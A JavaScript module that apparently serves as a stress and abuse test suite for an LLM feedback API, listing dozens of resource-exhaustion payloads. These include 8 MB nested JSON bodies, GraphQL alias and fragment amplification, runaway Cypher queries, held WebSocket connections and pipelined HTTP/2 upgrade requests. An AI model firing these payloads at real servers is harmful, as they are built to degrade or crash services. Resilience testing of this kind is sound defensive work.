// The attacks: each prepares what it sends and returns a function that attacks once and answers how the server answered.
//   prepare({url, host, port, ids, headers, leaf}) => (signal) => Promise<string>
import { connect } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { request } from 'undici';
import { LEAF } from './data.js';

const FEEDBACK = '/api/v1/llm/feedback';

/** A body that is sent again and again. */
function sends(method, path, body) {
  const bytes = body === undefined ? undefined : Buffer.from(typeof body === 'string' ? body : JSON.stringify(body));
  return ({ url, headers }) =>
    async (signal) => {
      const answer = await request(`${url}${path}`, { method, headers, body: bytes, signal });
      let start = '';
      for await (const chunk of answer.body) if (start.length < 64) start += chunk.toString('latin1', 0, 64);
      return start.startsWith('{"errors"') ? `${answer.statusCode} errors` : String(answer.statusCode);
    };
}

const asks = (query, variables) => sends('POST', '/graphql', { query, variables });
const matches = (query, parameters) => sends('POST', '/api/v1/llm/graph/query', { query, parameters });
const nested = (depth, inner = '') => '['.repeat(depth) + inner + ']'.repeat(depth);
const times = (count, make) => Array.from({ length: count }, (_, index) => make(index));

const entry = (length, number = 0) => ({
  type: 'negative',
  question: `${number} ${'why is it so '.repeat(Math.ceil(length / 13))}`.slice(0, length),
  answer: `${number} ${'because it is '.repeat(Math.ceil(length / 14))}`.slice(0, length),
  correction: `${number} ${'that is wrong '.repeat(Math.ceil(length / 14))}`.slice(0, length),
});

/** Fragments of which each spreads the next one under four lists, seven levels deep. */
function fragmentChain() {
  const lists = ['ancestors', 'descendants', 'derivedFrom', 'derivatives'];
  const fragments = times(
    7,
    (level) =>
      `fragment F${level} on Adapter { id ${lists
        .map((list) => `${list}(first: 1) { edges { node { ...F${level + 1} } } }`)
        .join(' ')} }`,
  );
  return `{ adapter(id: "${LEAF}") { ...F0 } } ${fragments.join(' ')} fragment F7 on Adapter { id }`;
}

/** Opens so many connections with this first request, and holds them until the server closes them or the time is up. */
function holds(count, head) {
  return ({ host, port }) =>
    async (signal) => {
      const statuses = new Map();
      const sockets = times(count, () => connect({ host, port }));
      const closed = new AbortController();
      // The signal of all attacks gets no listener of this one that outlives it.
      await Promise.race([
        delay(5_000, undefined, { signal: AbortSignal.any([signal, closed.signal]) }).catch(() => undefined),
        Promise.all(
          sockets.map(
            (socket) =>
              new Promise((resolve) => {
                socket.on('connect', () => socket.write(head(host, port)));
                socket.once('data', (chunk) => {
                  const status = chunk.toString('latin1', 9, 12);
                  statuses.set(status, (statuses.get(status) ?? 0) + 1);
                });
                socket.on('error', resolve).on('close', resolve);
              }),
          ),
        ),
      ]);
      closed.abort();
      for (const socket of sockets) socket.destroy();
      return [...statuses].map(([status, number]) => `${status} × ${number}`).join(' ');
    };
}

/** Requests in one piece, each with the offer of HTTP/2; answers how many came back. */
function offersHttp2(count) {
  return ({ host, port, headers, ids }) =>
    async (signal) => {
      const socket = connect({ host, port, signal });
      const one = (last) =>
        `GET ${FEEDBACK}/${ids[0]} HTTP/1.1\r\nHost: ${host}\r\nAuthorization: ${headers.authorization}\r\n` +
        `Upgrade: h2c\r\nConnection: ${last ? 'close' : 'Upgrade, HTTP2-Settings'}\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n`;
      socket.write(times(count, (index) => one(index === count - 1)).join(''));
      let text = '';
      for await (const chunk of socket) text += chunk.toString('latin1');
      return `${text.split('HTTP/1.1 200').length - 1} of ${count} answers`;
    };
}

const upgrade = (host, port) =>
  `GET /graphql HTTP/1.1\r\nHost: ${host}:${port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n` +
  'Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Protocol: graphql-transport-ws\r\n\r\n';

/** What a token without any role can do, and then what a trainer's and an administrator's can. */
export const ATTACKS = {
  'batch: 8 MB of nested arrays': sends('POST', `${FEEDBACK}/batch`, `{"feedback":[${nested(4_000_000)}]}`),
  'batch: 8 MB of empty arrays': sends('POST', `${FEEDBACK}/batch`, `{"feedback":[[${'[],'.repeat(2_700_000)}[]]]}`),
  'batch: 8 MB of numbers': sends('POST', `${FEEDBACK}/batch`, `{"feedback":[[${'1,'.repeat(4_000_000)}1]]}`),
  'batch: 8 MB of unknown fields': sends(
    'POST',
    `${FEEDBACK}/batch`,
    `{"feedback":[{${times(600_000, (index) => `"f${index}":1`).join(',')}}]}`,
  ),
  'batch: 8 MB of one text': sends('POST', `${FEEDBACK}/batch`, { feedback: [{ question: 'a'.repeat(8_000_000) }] }),
  'batch: 8 MB that is not JSON': sends('POST', `${FEEDBACK}/batch`, `{"feedback":[${'"\\u0041",'.repeat(800_000)}`),
  'batch: 1,000 entries': sends('POST', `${FEEDBACK}/batch`, { feedback: times(1_000, (index) => entry(100, index)) }),
  'batch: 1,000 entries of 8 kB': sends('POST', `${FEEDBACK}/batch`, {
    feedback: times(1_000, (index) => entry(2_700, index)),
  }),
  'batch: 1,000 refused entries': sends('POST', `${FEEDBACK}/batch`, {
    feedback: times(1_000, () => Object.fromEntries(times(50, (index) => [`unknown_${index}`, 1]))),
  }),
  'link: metadata of 100,000 nested arrays': (at) =>
    sends(
      'POST',
      `${FEEDBACK}/${at.ids[0]}/link`,
      `{"adapter_id":"adapter-001","metadata":{"a":${nested(100_000)}}}`,
    )(at),
  'GraphQL: a variable of 100,000 nested arrays': sends(
    'POST',
    '/graphql',
    `{"query":"query ($p: JSONObject) { graphQuery(query: \\"RETURN 1\\", parameters: $p) { columns } }","variables":{"p":{"a":${nested(100_000)}}}}`,
  ),
  'GraphQL: a literal of 3,800 brackets': asks(
    `{ graphQuery(query: "RETURN 1", parameters: { a: [${nested(30).repeat(63)}] }) { columns } }`,
  ),
  'GraphQL: one id 1,000 times under 12 aliases': (at) =>
    asks(
      `query ($ids: [ID!]!) { ${times(12, (index) => `a${index}: nodes(ids: $ids) { ... on Feedback { id question answer correction comment } }`).join(' ')} }`,
      { ids: times(1_000, () => at.long) },
    )(at),
  'GraphQL: a chain of fragments': asks(fragmentChain()),
  'GraphQL: totalCount of a filter under 90 aliases': asks(
    `{ ${times(90, (index) => `a${index}: feedbackList(first: 1, filter: { interactionId: "interaction-${index}", modelVersion: "llama-2-7b", since: "2020-01-01T00:00:00Z", userId: "user-1" }) { totalCount }`).join(' ')} }`,
  ),
  'GraphQL: totalCount of models under 90 aliases': asks(
    `{ ${times(90, (index) => `a${index}: feedbackList(first: 1, filter: { modelVersion: "llama-2-7b", adapterId: "adapter-0${10 + (index % 40)}", since: "2020-01-01T00:00:0${index % 10}Z" }) { totalCount }`).join(' ')} }`,
  ),
  'GraphQL: submitFeedbackBatch of 1,000 under 90 aliases': asks(
    `mutation ($input: [SubmitFeedbackInput!]!) { ${times(90, (index) => `a${index}: submitFeedbackBatch(input: $input) { results { feedback { id } } }`).join(' ')} }`,
    {
      input: times(1_000, (index) => ({
        type: 'POSITIVE',
        question: `question ${index}`,
        answer: `answer ${index}`,
      })),
    },
  ),
  'GraphQL: compareAdapters under 20 aliases': asks(
    `{ ${times(20, (index) => `a${index}: compareAdapters(first: 1000, ids: ["adapter-001", "adapter-0${10 + index}"]) { shown: questions { question } }`).join(' ')} }`,
  ),
  'GraphQL: introspection': asks(
    `{ __schema { types { ...T fields { name args { name type { ...R } } type { ...R } } } } } fragment T on __Type { name kind description inputFields { name type { ...R } } } fragment R on __Type { kind name ofType { kind name ofType { kind name ofType { kind name } } } }`,
  ),
  'list of 1,000': (at) => {
    let page = 0;
    return async (signal) => {
      const since = 1_600_000_000_000 + 1_000 * (page += 1);
      return sends('GET', `${FEEDBACK}?limit=1000&since=${since}`)(at)(signal);
    };
  },
  'GraphQL: 1,000 entries with all they have': asks(
    '{ feedbackList(first: 1000) { edges { node { id question answer correction validationStatus adapters(first: 10) { edges { node { id } } } versions(first: 10) { edges { node { version } } } } } } }',
  ),
  'MATCH: a product of everything': matches(
    'MATCH (a:Feedback), (b:Feedback), (c:Feedback) WHERE a.question = c.answer RETURN count(b.id)',
  ),
  'MATCH: all that is connected': matches(
    'MATCH p = (f:Feedback)-[*1..12]-(g:Feedback) WHERE f.question = g.answer RETURN length(p)',
  ),
  'MATCH: counting on': matches('UNWIND range(1, 1000000000) AS x WITH x WHERE x % 7 = 8 RETURN x'),
  'MATCH: sorting everything': matches(
    'MATCH (f:Feedback) UNWIND range(1, 200) AS x RETURN f.question, x ORDER BY f.answer, x DESC LIMIT 5',
  ),
  'MATCH: sorting long lists': matches(
    'UNWIND range(1, 100000) AS x WITH [i IN range(1, 500) | i] + x AS list RETURN list ORDER BY list LIMIT 1',
  ),
  'MATCH: grouping by long lists': matches(
    'UNWIND range(1, 100000) AS x RETURN [i IN range(1, 1000) | i * x] AS list, count(*)',
  ),
  'MATCH: collecting': matches(
    'UNWIND range(1, 2000000) AS x WITH collect(x) AS list RETURN size(list), reduce(s = 0, i IN list | s + i)',
  ),
  'MATCH: collecting distinct': matches(
    'UNWIND range(1, 2000000) AS x RETURN count(DISTINCT x), collect(DISTINCT x)[0]',
  ),
  'MATCH: percentiles': matches('UNWIND range(1, 3000000) AS x RETURN percentileCont(x * 7919 % 1000003, 0.5)'),
  'MATCH: lists in lists': matches(
    'UNWIND range(1, 1000000) AS x RETURN size([a IN range(1, 300) | [b IN range(1, 300) | a * b]])',
  ),
  'MATCH: a long reduce': matches('UNWIND range(1, 1000) AS y RETURN reduce(s = 0, x IN range(1, 99999) | s + x % 7)'),
  'MATCH: long texts': matches(
    'UNWIND range(1, 1000) AS y RETURN reduce(s = "", x IN range(1, 5000) | s + "abcdefghij") =~ "(a|b|c|d|e|f|g|h|i|j)*x"',
  ),
  'MATCH: replacing in texts': matches(
    'WITH reduce(s = "a", x IN range(1, 16) | s + s) AS t UNWIND range(1, 100000) AS x RETURN size(replace(t, "a", "bb")), size(split(t, ""))',
  ),
  'MATCH: a planned constant': matches(
    `RETURN ${times(60, () => 'reduce(s = 0, x IN range(1, 90000) | s + x)').join(' + ')}`,
  ),
  'MATCH: a thousand patterns': matches(
    `MATCH ${times(200, (index) => `(a${index}:Adapter)--(b${index})`).join(', ')} RETURN 1`,
  ),
  'MATCH: a long expression': matches(`RETURN ${times(15_000, () => '1').join('+')}`),
  'MATCH: a long expression within bounds': matches(`RETURN ${times(2_000, () => '1').join('+')}`),
  'MATCH: a chain of comparisons': matches(
    `MATCH (f:Feedback) WHERE ${times(1_000, () => 'f.id').join('<=')} RETURN count(f)`,
  ),
  'MATCH: many conditions': matches(
    `MATCH (f:Feedback) WHERE ${times(670, (index) => `f.id <> "x${index}"`).join(' AND ')} RETURN count(f)`,
  ),
  'MATCH: brackets': matches(`RETURN [${times(33, () => nested(60)).join()}]`),
  'MATCH: grouping by long expressions': matches(
    `MATCH (f:Feedback) RETURN [${times(500, (index) => `1+${index}`).join()}] AS a, count(*), [${times(480, (index) => `1+${index}`).join()}] AS b`,
  ),
  'MATCH: brackets that never close': matches(`RETURN ${'('.repeat(65_000)}`),
  'MATCH: looking for items': matches(
    'WITH range(1, 45000) AS list UNWIND range(1, 100000) AS x RETURN count(-x IN list)',
  ),
  'MATCH: testing items': matches('UNWIND range(1, 10000) AS y RETURN count(all(x IN range(1, 49000) WHERE x > 0))'),
  'MATCH: a heavy body': matches(`RETURN reduce(s = 0, x IN range(1, 49000) | ${times(2_000, () => 'x').join('+')})`),
  'MATCH: repetitive texts': matches(
    'WITH reduce(s = "a", x IN range(1, 17) | s + s) AS t, reduce(s = "a", x IN range(1, 12) | s + s) AS p UNWIND range(1, 1000) AS x RETURN count(t CONTAINS p + "b" + p)',
  ),
  'MATCH: upper case and backwards': matches(
    'WITH reduce(s = "abcdefghij", x IN range(1, 13) | s + s) AS t UNWIND range(1, 100000) AS x RETURN count(toUpper(t)), count(reverse(t))',
  ),
  'MATCH: splitting by many': matches(
    'WITH reduce(s = "ab", x IN range(1, 14) | s + s) AS t UNWIND range(1, 1000) AS x RETURN size(split(t, ["a", "b", "c"]))',
  ),
  'MATCH: sorting long texts': matches(
    'WITH reduce(s = "abcdefghij", x IN range(1, 12) | s + s) AS t UNWIND range(1, 100000) AS x WITH t + toString(x) AS u RETURN size(u) ORDER BY u LIMIT 3',
  ),
  'MATCH: one long list again and again': matches(
    'WITH range(1, 90000) AS l UNWIND range(1, 100000) AS x RETURN count(DISTINCT l)',
  ),
  'MATCH: the longest of long lists': matches('UNWIND range(1, 100000) AS x RETURN min(range(1, 20000) + x)'),
  'MATCH: a constant to look for': matches(
    'MATCH (f:Feedback) WHERE f.rating = reduce(s = 0, x IN range(1, 49000) | s + x) RETURN count(f)',
  ),
  'MATCH: many UNION': matches(times(100, () => 'MATCH (f:Feedback) RETURN f.id AS x').join(' UNION ')),
  'MATCH: many OPTIONAL MATCH': matches(
    `MATCH (a:Adapter) ${times(100, (index) => `OPTIONAL MATCH (a)-[:DERIVED_FROM]->(b${index})`).join(' ')} RETURN count(*)`,
  ),
  'MATCH: one long list as the answer': matches('RETURN range(1, 90000)'),
  'MATCH: a list in each item of a list': matches('WITH range(1, 900) AS l RETURN [a IN range(1, 900) | l]'),
  'MATCH: everything': matches('MATCH (f:Feedback) RETURN f'),
  'MATCH: big parameters': matches('UNWIND $p AS x RETURN count(x)', { p: times(40_000, (index) => index) }),
  export: (at) => sends('GET', `/api/v1/llm/training/batches/${at.batch}/export?format=trl-kto`)(at),
  'manifest of an export': (at) => sends('GET', `/api/v1/llm/training/batches/${at.batch}/manifest?format=raw`)(at),
  'claims of 20,000': (at) => async (signal) => {
    const claim = sends('POST', '/api/v1/llm/training/batches', { limit: 20_000 });
    return claim(at)(signal);
  },
  'marking 1,000 as used': (at) => {
    let from = at.ids.length;
    return async (signal) => {
      from -= 1_000;
      if (from < 0) return 'none is left';
      const body = { feedback_ids: at.ids.slice(from, from + 1_000), training_batch_id: 1_000_000 };
      return sends('POST', `${FEEDBACK}/mark-used`, body)(at)(signal);
    };
  },
  'audit log': asks('{ auditLog(first: 1000) { edges { node { id actor action node previous } } } }'),
  '256 silent WebSockets': holds(256, upgrade),
  '1,000 pipelined offers of HTTP/2': offersHttp2(1_000),
};
